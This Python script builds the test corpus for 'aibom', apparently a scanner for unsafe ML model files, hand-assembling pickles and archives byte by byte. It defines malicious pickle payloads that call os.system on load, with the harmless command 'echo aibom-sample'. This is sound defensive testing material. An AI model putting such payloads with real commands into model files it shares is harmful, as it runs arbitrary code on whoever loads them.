#!/usr/bin/env python3
"""Rebuild aibom's sample corpus: samples/{benign,malicious,malformed}/, expected.json, README.md.

Standard library only (Python 3.11+). Nothing here ever unpickles, loads or runs anything:

* every pickle is assembled byte by byte, either with the opcode helpers below or with
  `MiniPickler`, a small re-implementation of CPython's pickler over a toy object model
  (`Global`, `Reduce`, `NewObj`, `PersId`) so benign torch/sklearn/joblib pickles can be written
  without importing those libraries. `self_check()` proves `MiniPickler` emits the same bytes as
  `pickle.dumps` on plain data (pickling plain data runs no user code);
* the payload command is always `echo aibom-sample` and no sample is ever loaded;
* the only parsers run over the output (`pickletools.genops`, `zipfile`, `tarfile`'s member
  listing) never import, call or extract what they read.

The output is byte-identical on every run: zips are written by hand with a fixed 1980-01-01
timestamp, tars by `tarfile` with mtime, uid, gid and owner names fixed, gzip gets mtime 0,
tables are sorted. Row numbers (#N) refer to section 3 of
`/work/shared/research/pickle-scanners.md` (published scanner bypasses).

Usage:
    python3 samples/generate.py                      # rebuild the corpus next to this file
    python3 samples/generate.py --big-opcodes PATH   # also write a ~20 MB benign opcode-heavy
                                                     # pickle to PATH (for benchmarks; never
                                                     # put it under samples/, it is not committed)
"""

from __future__ import annotations

import argparse
import base64
import bz2
import gzip
import hashlib
import io
import json
import lzma
import os
import pickle
import pickletools
import shutil
import struct
import sys
import tarfile
import zipfile
import zlib
from pathlib import Path

ROOT = Path(__file__).resolve().parent
OUTPUT_DIRS = ("benign", "malicious", "malformed", "release")

# The finding codes aibom reports (kept in sync with the scanner by hand; expected.json may only
# use these).
CODES = {
    "pickle-dangerous-global", "pickle-dangerous-call", "pickle-unknown-global",
    "pickle-dynamic-global", "pickle-dynamic-call", "pickle-dunder-access", "pickle-build-on-global",
    "pickle-extension-code", "pickle-frame-overrun", "pickle-malformed", "pickle-trailing-data",
    "polyglot", "zip-crc-mismatch", "zip-header-mismatch", "zip-duplicate-name",
    "zip-path-traversal", "zip-encrypted-flag", "zip-hidden-entry", "zip-trailing-data",
    "zip-malformed", "torchscript-code", "npy-malformed", "safetensors-malformed",
    "format-mismatch", "empty-file", "symlink-escape", "symlink-broken", "partial-download",
    "remote-code", "torchscript-dangerous-op", "torchscript-custom-op",
    "keras-embedded-object", "keras-external-load", "config-callable-target",
    "config-embedded-payload",
    "tar-path-traversal", "tar-link-escape", "tar-special-file", "tar-duplicate-name",
    "tar-trailing-data", "tar-malformed", "joblib-array-unresolved", "joblib-external-array", "torch-storage-mismatch", "tf-checkpoint-data-mismatch", "hdf5-incomplete",
    "hdf5-duplicate-heap-object", "archive-malformed",
}
VERDICTS = {"clean", "unsafe", "malformed", "unsupported"}

CMD = "echo aibom-sample"
PY_CODE = f"__import__('os').system('{CMD}')"

# ---------------------------------------------------------------------------------------------
# Pickle opcode helpers (see CPython Lib/pickletools.py for every opcode used here).

P2, P4, P5, STOP = b"\x80\x02", b"\x80\x04", b"\x80\x05", b"."


def su(s: str) -> bytes:
    """SHORT_BINUNICODE (protocol 4)."""
    b = s.encode()
    assert len(b) < 256
    return b"\x8c" + bytes([len(b)]) + b


def bu(s: str) -> bytes:
    """BINUNICODE (protocol 1+)."""
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def g0(module: str, name: str) -> bytes:
    """GLOBAL (text form, every protocol)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL with constant string operands (protocol 4)."""
    return su(module) + su(name) + b"\x93"


def call1(module: str, name: str, arg: str) -> bytes:
    """module.name(arg): STACK_GLOBAL, SHORT_BINUNICODE, TUPLE1, REDUCE."""
    return sg(module, name) + su(arg) + b"\x85R"


def plist(*items: bytes) -> bytes:
    """EMPTY_LIST, MARK, items, APPENDS."""
    return b"](" + b"".join(items) + b"e"


MAL = P4 + call1("os", "system", CMD) + STOP          # the canonical payload
MAL_P2 = P2 + g0("os", "system") + bu(CMD) + b"\x85R."  # same, protocol 2 (torch's default)
MAL_P0 = g0("os", "system") + b"(V" + CMD.encode() + b"\ntR."


# ---------------------------------------------------------------------------------------------
# MiniPickler: CPython's pickler (Modules/_pickle.c, save_*) over plain data plus a toy object
# model, so realistic framework pickles can be produced without the frameworks.

class Global:
    """A class or function reference: GLOBAL / STACK_GLOBAL."""

    def __init__(self, module: str, name: str):
        self.module, self.name = module, name


class Reduce:
    """func(*args) then optional SETITEMS/APPENDS and BUILD, as save_reduce writes them."""

    def __init__(self, func, args=(), state=None, listitems=None, dictitems=None):
        self.func, self.args, self.state = func, tuple(args), state
        self.listitems, self.dictitems = listitems, dictitems


class NewObj:
    """copyreg.__newobj__ path: cls, args, NEWOBJ then optional BUILD (plain class instances)."""

    def __init__(self, cls, args=(), state=None):
        self.cls, self.args, self.state = cls, tuple(args), state


class PersId:
    """A persistent id (torch storages): save(pid), BINPERSID. Never memoized."""

    def __init__(self, pid):
        self.pid = pid


class JoblibArray:
    """A numpy array as joblib.numpy_pickle.NumpyPickler writes it: a NumpyArrayWrapper object
    (NEWOBJ + BUILD), the frame committed, then one padding-length byte, 0xff padding up to a
    16-byte boundary and the raw array bytes *inside the pickle stream* (joblib >= 1.2)."""

    def __init__(self, descr: str, shape: tuple, data: bytes, allow_mmap: bool):
        self.descr, self.shape, self.data, self.allow_mmap = descr, shape, data, allow_mmap


NUMPY_DTYPE = Global("numpy", "dtype")


def np_dtype(descr: str) -> Reduce:
    """numpy.dtype.__reduce__: dtype(('f8', False, True)) + BUILD state (version 3)."""
    order = "|" if descr[1:] in ("u1", "i1", "b1") else "<"
    return Reduce(NUMPY_DTYPE, (descr[1:], False, True), state=(3, order, None, None, None, -1, -1, 0))


class MiniPickler:
    FRAME_MIN = 4  # pickle._Framer._FRAME_SIZE_MIN

    def __init__(self, proto: int):
        self.proto = proto
        self.out = bytearray()
        self.frame = bytearray() if proto >= 4 else None
        self.memo: dict = {}
        self.keep: list = []  # keep memoized objects alive so id() stays unique

    # -- output and framing --
    def w(self, b: bytes) -> None:
        if self.frame is not None:
            self.frame += b
        else:
            self.out += b

    def commit_frame(self) -> None:
        if self.frame is None:
            return
        if len(self.frame) >= self.FRAME_MIN:
            self.out += b"\x95" + struct.pack("<Q", len(self.frame))
        self.out += self.frame
        self.frame = bytearray()

    def dumps(self, obj) -> bytes:
        if self.proto >= 2:
            self.out += b"\x80" + bytes([self.proto])
        self.save(obj)
        self.w(STOP)
        self.commit_frame()
        return bytes(self.out)

    # -- memo --
    @staticmethod
    def key(obj):
        if isinstance(obj, str):
            return ("str", obj)  # CPython shares interned/constant strings; equal is close enough
        if isinstance(obj, Global):
            return ("global", obj.module, obj.name)
        return ("id", id(obj))

    def memoize(self, obj) -> None:
        idx = len(self.memo)
        self.memo[self.key(obj)] = idx
        self.keep.append(obj)
        if self.proto >= 4:
            self.w(b"\x94")
        elif self.proto >= 1:
            self.w(b"q" + bytes([idx]) if idx < 256 else b"r" + struct.pack("<I", idx))
        else:
            self.w(b"p%d\n" % idx)

    def get(self, idx: int) -> None:
        if self.proto >= 1:
            self.w(b"h" + bytes([idx]) if idx < 256 else b"j" + struct.pack("<I", idx))
        else:
            self.w(b"g%d\n" % idx)

    # -- save --
    def save(self, obj) -> None:
        if obj is None:
            return self.w(b"N")
        if obj is True or obj is False:
            if self.proto >= 2:
                return self.w(b"\x88" if obj else b"\x89")
            return self.w(b"I01\n" if obj else b"I00\n")
        if isinstance(obj, int):
            return self.save_int(obj)
        if isinstance(obj, float):
            if self.proto >= 1:
                return self.w(b"G" + struct.pack(">d", obj))
            return self.w(b"F" + repr(obj).encode() + b"\n")
        k = self.key(obj)
        if k in self.memo and not (isinstance(obj, tuple) and not obj):
            return self.get(self.memo[k])
        if isinstance(obj, str):
            b = obj.encode("utf-8")
            if self.proto >= 4 and len(b) < 256:
                self.w(b"\x8c" + bytes([len(b)]) + b)
            elif self.proto >= 1:
                self.w(b"X" + struct.pack("<I", len(b)) + b)
            else:
                assert "\\" not in obj and "\n" not in obj and "\r" not in obj and "\0" not in obj
                self.w(b"V" + obj.encode("raw_unicode_escape") + b"\n")
            return self.memoize(obj)
        if isinstance(obj, bytes):
            assert self.proto >= 3, "bytes need protocol 3+ in MiniPickler"
            self.w((b"C" + bytes([len(obj)])) if len(obj) < 256 else (b"B" + struct.pack("<I", len(obj))))
            self.w(obj)
            return self.memoize(obj)
        if isinstance(obj, tuple):
            return self.save_tuple(obj)
        if isinstance(obj, list):
            self.w(b"]" if self.proto >= 1 else b"(l")
            self.memoize(obj)
            return self.batch_appends(obj)
        if isinstance(obj, dict):
            self.w(b"}" if self.proto >= 1 else b"(d")
            self.memoize(obj)
            return self.batch_setitems(list(obj.items()))
        if isinstance(obj, Global):
            if self.proto >= 4:
                self.save(obj.module)
                self.save(obj.name)
                self.w(b"\x93")
            else:
                self.w(g0(obj.module, obj.name))
            return self.memoize(obj)
        if isinstance(obj, Reduce):
            self.save(obj.func)
            self.save(obj.args)
            self.w(b"R")
            return self.after_reduce(obj, obj.listitems, obj.dictitems, obj.state)
        if isinstance(obj, NewObj):
            self.save(obj.cls)
            self.save(obj.args)
            self.w(b"\x81")
            return self.after_reduce(obj, None, None, obj.state)
        if isinstance(obj, PersId):
            self.save(obj.pid)
            return self.w(b"Q")
        if isinstance(obj, JoblibArray):
            return self.save_joblib_array(obj)
        raise TypeError(f"MiniPickler cannot save {type(obj).__name__}")

    def save_int(self, x: int) -> None:
        if -(2**31) <= x < 2**31:
            if self.proto >= 1:
                if 0 <= x < 256:
                    return self.w(b"K" + bytes([x]))
                if 0 <= x < 65536:
                    return self.w(b"M" + struct.pack("<H", x))
                return self.w(b"J" + struct.pack("<i", x))
            return self.w(b"I%d\n" % x)
        if self.proto >= 2:
            enc = pickle.encode_long(x)
            if len(enc) < 256:
                return self.w(b"\x8a" + bytes([len(enc)]) + enc)
            return self.w(b"\x8b" + struct.pack("<i", len(enc)) + enc)
        return self.w(b"L%dL\n" % x)

    def save_tuple(self, t: tuple) -> None:
        if not t:
            return self.w(b")" if self.proto >= 1 else b"(t")
        if len(t) <= 3 and self.proto >= 2:
            for item in t:
                self.save(item)
            self.w(b"\x85\x86\x87"[len(t) - 1:len(t)])
        else:
            self.w(b"(")
            for item in t:
                self.save(item)
            self.w(b"t")
        self.memoize(t)

    def batch_appends(self, items) -> None:
        items = list(items)
        if self.proto == 0:
            for item in items:
                self.save(item)
                self.w(b"a")
            return
        for i in range(0, len(items), 1000):
            batch = items[i:i + 1000]
            if len(batch) == 1:
                self.save(batch[0])
                self.w(b"a")
            else:
                self.w(b"(")
                for item in batch:
                    self.save(item)
                self.w(b"e")

    def batch_setitems(self, items) -> None:
        if self.proto == 0:
            for k, v in items:
                self.save(k)
                self.save(v)
                self.w(b"s")
            return
        for i in range(0, len(items), 1000):
            batch = items[i:i + 1000]
            if len(batch) == 1:
                self.save(batch[0][0])
                self.save(batch[0][1])
                self.w(b"s")
            else:
                self.w(b"(")
                for k, v in batch:
                    self.save(k)
                    self.save(v)
                self.w(b"u")

    def after_reduce(self, obj, listitems, dictitems, state) -> None:
        self.memoize(obj)
        if listitems is not None:
            self.batch_appends(listitems)
        if dictitems is not None:
            self.batch_setitems(list(dictitems))
        if state is not None:
            self.save(state)
            self.w(b"b")

    def save_joblib_array(self, a: JoblibArray) -> None:
        wrapper = NewObj(Global("joblib.numpy_pickle", "NumpyArrayWrapper"), (), state={
            "subclass": Global("numpy", "ndarray"),
            "shape": a.shape,
            "order": "C",
            "dtype": np_dtype(a.descr),
            "allow_mmap": a.allow_mmap,
            "numpy_array_alignment_bytes": 16,
        })
        self.save(wrapper)
        self.commit_frame()  # NumpyPickler.save: framer.commit_frame(force=True)
        pos = len(self.out) + 1  # after the padding-length byte
        pad = 16 - pos % 16
        self.out += bytes([pad]) + b"\xff" * pad + a.data


def mini(obj, proto: int) -> bytes:
    return MiniPickler(proto).dumps(obj)


# ---------------------------------------------------------------------------------------------
# Zip writer (PKWARE APPNOTE 4.3.7 local header, 4.3.12 central directory, 4.3.16 EOCD).
# Written by hand so the bytes are fixed and so the tricks (wrong CRC, flag bits, local/central
# name mismatch, duplicate and hidden entries, prefixes and suffixes) are easy to express.

DOS_TIME, DOS_DATE = 0, (0 << 9) | (1 << 5) | 1  # 1980-01-01 00:00:00


class Entry:
    def __init__(self, name: str, data: bytes, *, deflate=False, flags=0, crc=None,
                 local_name=None, align=0, central=True, method=None, local_flags=0):
        self.name, self.data, self.deflate, self.flags = name, data, deflate, flags
        # Flag bits set in the local header only.
        self.local_flags = local_flags
        self.crc, self.local_name, self.align, self.central = crc, local_name, align, central
        # "bzip2" or "lzma": compressed as Python's zipfile writes ZIP_BZIP2 / ZIP_LZMA.
        self.method = method


def build_zip(entries, *, base=0, trailing=b"") -> bytes:
    """`base` is the number of bytes that will precede the zip in the final file (offsets in the
    central directory are absolute, as for a self-extracting archive)."""
    out = bytearray()
    central = []
    for e in entries:
        lname = (e.local_name or e.name).encode()
        flags = e.flags
        if e.method == "bzip2":
            payload, method = bz2.compress(e.data, 9), 12
        elif e.method == "lzma":
            # zipfile's LZMACompressor: version 9.4, the LZMA1 properties, a raw stream with an
            # end marker (flag bit 1).
            props = lzma._encode_filter_properties({"id": lzma.FILTER_LZMA1})
            comp = lzma.LZMACompressor(lzma.FORMAT_RAW, filters=[
                lzma._decode_filter_properties(lzma.FILTER_LZMA1, props)])
            payload = struct.pack("<BBH", 9, 4, len(props)) + props + comp.compress(e.data) + comp.flush()
            method, flags = 14, flags | 0x2
        elif e.deflate:
            c = zlib.compressobj(6, zlib.DEFLATED, -15)
            payload = c.compress(e.data) + c.flush()
            method = 8
        else:
            payload, method = e.data, 0
        crc = zlib.crc32(e.data) if e.crc is None else e.crc
        offset = base + len(out)
        extra = b""
        if e.align:
            # PyTorch's writer (caffe2/serialize/inline_container.cc getPadding) aligns every
            # record's data to 64 bytes with a local-only extra field "FB" filled with 'Z'.
            pad = (-(offset + 30 + len(lname) + 4)) % e.align
            extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags | e.local_flags, method, DOS_TIME, DOS_DATE,
                           crc, len(payload), len(e.data), len(lname), len(extra))
        out += lname + extra + payload
        if e.central:
            name = e.name.encode()
            central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x0314, 20, flags, method,
                                       DOS_TIME, DOS_DATE, crc, len(payload), len(e.data), len(name),
                                       0, 0, 0, 0, 0o100644 << 16, offset) + name)
    cd = b"".join(central)
    cd_offset = base + len(out)
    out += cd
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), len(cd), cd_offset, 0)
    return bytes(out) + trailing


def torch_entries(members, prefix="archive/"):
    """PyTorch zip layout (torch.save >= 1.6): <prefix>data.pkl, byteorder, data/<key>, version."""
    es = [Entry(prefix + name, data, align=64) for name, data in members]
    es.append(Entry(prefix + "byteorder", b"little", align=64))
    es.append(Entry(prefix + "version", b"3\n", align=64))
    return es


def tzip(members, prefix="archive/", base=0, trailing=b"") -> bytes:
    return build_zip(torch_entries(members, prefix), base=base, trailing=trailing)


def torchscript(name: str, setstate: bytes = b"") -> bytes:
    """torch.jit.save layout (torch/csrc/jit/serialization/export_module.cpp), as in real archives
    such as silero-vad's: <name>/data.pkl (the module object, class __torch__.model.Model),
    <name>/code/__torch__/model.py (printed TorchScript, deflated), constants.pkl, version,
    byteorder. `setstate` is the body of a __setstate__ method (run by torch.jit.load)."""
    code = (b"class Model(Module):\n  __parameters__ = []\n  __buffers__ = []\n  training : bool\n"
            b"  def forward(self: __torch__.model.Model,\n    x: Tensor) -> Tensor:\n"
            b"    _0 = \"Expected a 2D input, got {}D\"\n"
            b"    if torch.ne(torch.dim(x), 2):\n"
            b"      ops.prim.RaiseException(torch.format(_0, torch.dim(x)), \"builtins.ValueError\")\n"
            b"    else:\n      pass\n"
            b"    _1 = torch.to(torch.relu(torch.add(x, 1)), ops.prim.device(x))\n"
            b"    return _1\n")
    if setstate:
        code += (b"  def __setstate__(self: __torch__.model.Model,\n    state: Tuple[bool]) -> NoneType:\n"
                 + setstate + b"    self.training = (state)[0]\n    return None\n")
    data = mini(NewObj(Global("__torch__.model", "Model"), (), state={"training": False}), 2)
    return build_zip([Entry(name + "/" + n, d, align=64, deflate=n.endswith(".py")) for n, d in [
        ("data.pkl", data), ("code/__torch__/model.py", code), ("constants.pkl", mini((), 2)),
        ("version", b"3\n"), ("byteorder", b"little")]])


# ---------------------------------------------------------------------------------------------
# 7z writer: the smallest valid archive, one folder per file, each with the "Copy" coder (id 0x00),
# per 7-Zip's DOC/7zFormat.txt. Checked with the sevenz-rust2 crate's reader (names, bytes, CRCs).

def sz_num(v: int) -> bytes:
    """7z variable-length UINT64: n leading 1-bits in the first byte = n extra LE bytes."""
    for n in range(8):
        if v < 1 << (7 * (n + 1)):
            first = ((0xFF00 >> n) & 0xFF) | (v >> (8 * n))
            return bytes([first]) + (v & ((1 << (8 * n)) - 1)).to_bytes(n, "little")
    return b"\xff" + v.to_bytes(8, "little")


def build_7z(files) -> bytes:
    n = len(files)
    packed = b"".join(d for _, d in files)
    sizes = b"".join(sz_num(len(d)) for _, d in files)
    h = bytearray(b"\x01\x04")                              # kHeader, kMainStreamsInfo
    h += b"\x06" + sz_num(0) + sz_num(n) + b"\x09" + sizes + b"\x00"   # kPackInfo .. kEnd
    h += b"\x07\x0b" + sz_num(n) + b"\x00"                  # kUnPackInfo, kFolder, n, External=0
    h += b"\x01\x01\x00" * n                                # 1 coder, id size 1, id 0x00 (Copy)
    h += b"\x0c" + sizes + b"\x00"                          # kCodersUnPackSize .. kEnd
    h += b"\x08\x0a\x01" + b"".join(struct.pack("<I", zlib.crc32(d)) for _, d in files) + b"\x00"
    h += b"\x00"                                            # end of MainStreamsInfo
    names = b"\x00" + b"".join(name.encode("utf-16-le") + b"\x00\x00" for name, _ in files)
    h += b"\x05" + sz_num(n) + b"\x11" + sz_num(len(names)) + names + b"\x00"  # kFilesInfo
    h += b"\x00"                                            # end of Header
    start = struct.pack("<QQI", len(packed), len(h), zlib.crc32(bytes(h)))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + packed + bytes(h)


# ---------------------------------------------------------------------------------------------
# LZ4 frame writer (lz4/doc/lz4_Frame_format.md), for joblib's compress='lz4': stored blocks only
# (a block size with the high bit set holds its bytes as they are), which every LZ4 decoder reads.
# samples/check_lz4.py checks the output with the lz4 package and joblib's compressor detection.

XXH_P1, XXH_P2, XXH_P3, XXH_P4, XXH_P5 = 2654435761, 2246822519, 3266489917, 668265263, 374761393


def xxh32(data: bytes, seed: int = 0) -> int:
    """XXH32 (xxHash spec), the checksum of LZ4 frame descriptors and contents."""
    M = 0xFFFFFFFF

    def rotl(x: int, r: int) -> int:
        return ((x << r) | (x >> (32 - r))) & M

    def lane(v: int, w: int) -> int:
        return rotl((v + w * XXH_P2) & M, 13) * XXH_P1 & M

    n, i = len(data), 0
    if n >= 16:
        v = [(seed + XXH_P1 + XXH_P2) & M, (seed + XXH_P2) & M, seed & M, (seed - XXH_P1) & M]
        while i + 16 <= n:
            v = [lane(v[k], int.from_bytes(data[i + 4 * k:i + 4 * k + 4], "little")) for k in range(4)]
            i += 16
        h = (rotl(v[0], 1) + rotl(v[1], 7) + rotl(v[2], 12) + rotl(v[3], 18)) & M
    else:
        h = (seed + XXH_P5) & M
    h = (h + n) & M
    while i + 4 <= n:
        h = rotl((h + int.from_bytes(data[i:i + 4], "little") * XXH_P3) & M, 17) * XXH_P4 & M
        i += 4
    while i < n:
        h = rotl((h + data[i] * XXH_P5) & M, 11) * XXH_P1 & M
        i += 1
    h = (h ^ (h >> 15)) * XXH_P2 & M
    h = (h ^ (h >> 13)) * XXH_P3 & M
    return h ^ (h >> 16)


def lz4_frame(data: bytes, dict_id: int | None = None) -> bytes:
    """One LZ4 frame: FLG 0x64 (version 01, independent blocks, content checksum), BD 0x40
    (64 KiB blocks), the header checksum byte, stored blocks, the end mark, the content
    checksum. With `dict_id`, FLG bit 0 is set and the descriptor names that dictionary."""
    desc = bytes([0x64, 0x40]) if dict_id is None else bytes([0x65, 0x40]) + struct.pack("<I", dict_id)
    out = b"\x04\x22\x4d\x18" + desc + bytes([(xxh32(desc) >> 8) & 0xFF])
    for i in range(0, len(data), 64 << 10):
        block = data[i:i + (64 << 10)]
        out += struct.pack("<I", len(block) | 0x80000000) + block
    return out + struct.pack("<I", 0) + struct.pack("<I", xxh32(data))


def lz4_legacy(data: bytes) -> bytes:
    """A frame of the legacy LZ4 format (`lz4 -l`: magic 0x184C2102, then each block's compressed
    size and the block), one block of literals only (a token, the literal count past 15 in
    bytes of 255, the literals), which liblz4's frame decoder refuses as an unknown frame type."""
    n = len(data)
    block = bytearray([min(n, 15) << 4])
    if n >= 15:
        rest = n - 15
        while rest >= 255:
            block.append(255)
            rest -= 255
        block.append(rest)
    block += data
    return struct.pack("<II", 0x184C2102, len(block)) + bytes(block)


def lz4_skippable(data: bytes, magic: int = 0x184D2A50) -> bytes:
    """A skippable frame (magic 0x184D2A50..5F, a 4-byte size, user data): liblz4 skips it and
    reads the next frame."""
    return struct.pack("<II", magic, len(data)) + data


# ---------------------------------------------------------------------------------------------
# Other formats.

# Tar: written by tarfile (pax format, Python's default and SageMaker's) with every varying field
# fixed. Entries: (name, bytes) for a regular file, (name, None, kind, target) for a link.

def build_tar(entries) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name, data, *link in entries:
            ti = tarfile.TarInfo(name)
            ti.mtime, ti.uid, ti.gid, ti.uname, ti.gname, ti.mode = 0, 0, 0, "", "", 0o644
            if link:
                ti.type, ti.linkname = link
                t.addfile(ti)
            else:
                ti.size = len(data)
                t.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


def tar_listing(data: bytes) -> list[tuple[str, str, str]]:
    """(name, type, link target) of every member, as Python's tarfile lists them (no extraction;
    tarfile.open detects gzip, bzip2 and xz)."""
    with tarfile.open(fileobj=io.BytesIO(data)) as t:
        kinds = {tarfile.SYMTYPE: "symlink", tarfile.LNKTYPE: "hardlink", tarfile.DIRTYPE: "dir"}
        return [(m.name, kinds.get(m.type, "file"), m.linkname) for m in t.getmembers()]


def legacy_torch_tar(pickle_member: bytes) -> bytes:
    """PyTorch's first torch.save layout (before 0.1.10; still read by torch.load's legacy_load):
    a tar of sys_info, pickle, tensors and storages, in that order. `storages` holds a count,
    then per storage a pickled (key, location, type) and the raw data behind an 8-byte count,
    then the storage views."""
    sys_info = {"protocol_version": 1001, "little_endian": True,
                "type_sizes": {"short": 2, "int": 4, "long": 4}}
    storages = (mini(1, 2) + mini(("0", "cpu", FLOAT_STORAGE), 2) + struct.pack("<q", len(TENSOR_BYTES) // 4)
                + TENSOR_BYTES + mini([], 2))
    return build_tar([("sys_info", mini(sys_info, 2)), ("pickle", pickle_member), ("tensors", mini(0, 2)),
                      ("storages", storages)])


def npy(descr: str, shape: tuple, data: bytes, fortran=False) -> bytes:
    """numpy .npy v1.0 (numpy/lib/format.py): header dict padded with spaces to 64 bytes."""
    header = "{'descr': %r, 'fortran_order': %r, 'shape': %r, }" % (descr, fortran, shape)
    total = 10 + len(header) + 1
    header += " " * ((-total) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1") + data


def st_raw(header: str, data: bytes, pad=True) -> bytes:
    hb = header.encode()
    if pad:
        hb += b" " * ((-len(hb)) % 8)
    return struct.pack("<Q", len(hb)) + hb + data


def safetensors(tensors, metadata=None) -> bytes:
    """tensors: [(name, dtype, shape, bytes)] in file order. Compact JSON like the Rust crate."""
    header, data, off = {}, b"", 0
    if metadata is not None:
        header["__metadata__"] = metadata
    for name, dtype, shape, raw in tensors:
        header[name] = {"dtype": dtype, "shape": list(shape), "data_offsets": [off, off + len(raw)]}
        data += raw
        off += len(raw)
    return st_raw(json.dumps(header, separators=(",", ":")), data)


def f32(*xs) -> bytes:
    return struct.pack("<%df" % len(xs), *xs)


def f64(*xs) -> bytes:
    return struct.pack("<%dd" % len(xs), *xs)


def i64(*xs) -> bytes:
    return struct.pack("<%dq" % len(xs), *xs)


def prng(seed: bytes, n: int) -> bytes:
    out = b""
    i = 0
    while len(out) < n:
        out += hashlib.sha256(seed + i.to_bytes(4, "big")).digest()
        i += 1
    return out[:n]


def jdump(obj) -> bytes:
    return (json.dumps(obj, indent=2) + "\n").encode()


# ---------------------------------------------------------------------------------------------
# Benign model payloads reused below.

TORCH_MAGIC = 0x1950A86A20F9469CFC6C
OD = Global("collections", "OrderedDict")
REBUILD = Global("torch._utils", "_rebuild_tensor_v2")
FLOAT_STORAGE = Global("torch", "FloatStorage")
TENSOR_BYTES = f32(0.5, -1.25, 2.0, 0.125)


def torch_state_dict(pid) -> Reduce:
    """OrderedDict({'linear.weight': 2x2 float tensor}) as torch.save pickles a state dict,
    including the `_metadata` attribute restored by BUILD on the OrderedDict instance."""
    tensor = Reduce(REBUILD, (PersId(pid), 0, (2, 2), (2, 1), False, Reduce(OD, ())))
    meta = Reduce(OD, (), dictitems=[("", {"version": 1}), ("linear", {"version": 1})])
    return Reduce(OD, (), state={"_metadata": meta}, dictitems=[("linear.weight", tensor)])


DATA_PKL = mini(torch_state_dict(("storage", FLOAT_STORAGE, "0", "cpu", 4)), 2)
BENIGN_DICT = {"name": "aibom", "weights": [0.5, -1.25, 2.0], "layers": 3, "bias": None, "ok": True}


def legacy_torch(state_pickle: bytes, keys=("0",), storages=(TENSOR_BYTES,)) -> bytes:
    """torch.serialization._legacy_save: magic, protocol version, sys_info, the object, the
    storage keys, then for each storage an 8-byte little-endian element count and its bytes."""
    sys_info = {"protocol_version": 1001, "little_endian": True,
                "type_sizes": {"short": 2, "int": 4, "long": 4}}
    out = mini(TORCH_MAGIC, 2) + mini(1001, 2) + mini(sys_info, 2) + state_pickle + mini(list(keys), 2)
    for raw in storages:
        out += struct.pack("<q", len(raw) // 4) + raw
    return out


def st_model() -> bytes:
    # The Rust crate orders tensors by dtype alignment (largest first), then name.
    return safetensors([("position_ids", "I64", (1, 3), i64(0, 1, 2)),
                        ("embed.weight", "F32", (2, 2), f32(0.5, -1.25, 2.0, 0.125))],
                       metadata={"format": "pt"})


HF_CONFIG = jdump({"architectures": ["AibomTinyModel"], "model_type": "aibom-tiny",
                   "hidden_size": 2, "vocab_size": 3, "torch_dtype": "float32",
                   "transformers_version": "4.44.0"})
HF_README = b"""---
license: apache-2.0
library_name: transformers
tags:
  - aibom-sample
datasets:
  - aibom/tiny-corpus
base_model: aibom/tiny-base
---

# aibom tiny model

A two-parameter test model for aibom's sample corpus. Not useful for anything else.
"""
HF_TOKENIZER = jdump({"version": "1.0", "truncation": None, "padding": None, "added_tokens": [],
                      "normalizer": None, "pre_tokenizer": {"type": "Whitespace"},
                      "post_processor": None, "decoder": None,
                      "model": {"type": "WordLevel", "vocab": {"[UNK]": 0, "aibom": 1, "sample": 2},
                                "unk_token": "[UNK]"}})
HF_GENCFG = jdump({"_from_model_config": True, "bos_token_id": 1, "eos_token_id": 2,
                   "transformers_version": "4.44.0"})


# ---------------------------------------------------------------------------------------------
# The corpus.

class Corpus:
    def __init__(self):
        self.files: dict[str, bytes] = {}
        self.links: dict[str, str] = {}
        self.expect: dict[str, dict] = {}

    def add(self, path, data=None, verdict=None, codes=(), why=None):
        if data is not None:
            assert path not in self.files, path
            self.files[path] = data
        if verdict is not None:
            self.exp(path, verdict, codes, why)

    def link(self, path, target):
        self.links[path] = target

    def exp(self, path, verdict, codes, why):
        assert verdict in VERDICTS, verdict
        assert set(codes) <= CODES, set(codes) - CODES
        assert why and "\n" not in why
        assert path not in self.expect, path
        self.expect[path] = {"verdict": verdict, "codes": sorted(codes), "why": why}


DG, DC = "pickle-dangerous-global", "pickle-dangerous-call"


def benign(c: Corpus) -> None:
    b = "benign/"
    c.add(b + "dict_p2.pkl", mini(BENIGN_DICT, 2), "clean", [],
          "plain dict, protocol 2 (pickle.dumps(d, 2))")
    c.add(b + "dict_p4.pkl", mini(BENIGN_DICT, 4), "clean", [],
          "plain dict, protocol 4 with one FRAME")
    c.add(b + "proto0_list.pkl", mini([1, 2.5, "text", None, True, (1, 2), {"k": "v"}], 0), "clean", [],
          "protocol-0 text pickle of plain data (no PROTO opcode)")

    # sklearn LinearRegression as pickle.dumps(est, 4) writes it (numpy >= 2 module names).
    f8 = np_dtype("<f8")
    recon = Global("numpy._core.multiarray", "_reconstruct")
    ndarray = Global("numpy", "ndarray")

    def arr(*xs):
        # numpy builds a fresh (0,) per array; b"b" is a CPython single-byte singleton (BINGET).
        return Reduce(recon, (ndarray, tuple([0]), b"b"), state=(1, (len(xs),), f8, False, f64(*xs)))

    est = NewObj(Global("sklearn.linear_model._base", "LinearRegression"), (), state={
        "fit_intercept": True, "copy_X": True, "tol": 1e-06, "n_jobs": None, "positive": False,
        "n_features_in_": 2, "coef_": arr(0.5, -1.5), "rank_": 2, "singular_": arr(1.0, 0.5),
        "intercept_": Reduce(Global("numpy._core.multiarray", "scalar"), (f8, f64(0.25))),
        "_sklearn_version": "1.5.2"})
    c.add(b + "sklearn_like.pkl", mini(est, 4), "clean", [],
          "sklearn LinearRegression: NEWOBJ+BUILD, numpy _reconstruct/dtype/scalar; all allowlisted, BUILD targets instances only")

    c.add(b + "torch_zip_benign.pt", tzip([("data.pkl", DATA_PKL), ("data/0", TENSOR_BYTES)]), "clean", [],
          "torch.save zip: archive/data.pkl (OrderedDict, _rebuild_tensor_v2, BINPERSID storage), data/0, version, byteorder; 64-byte aligned records")

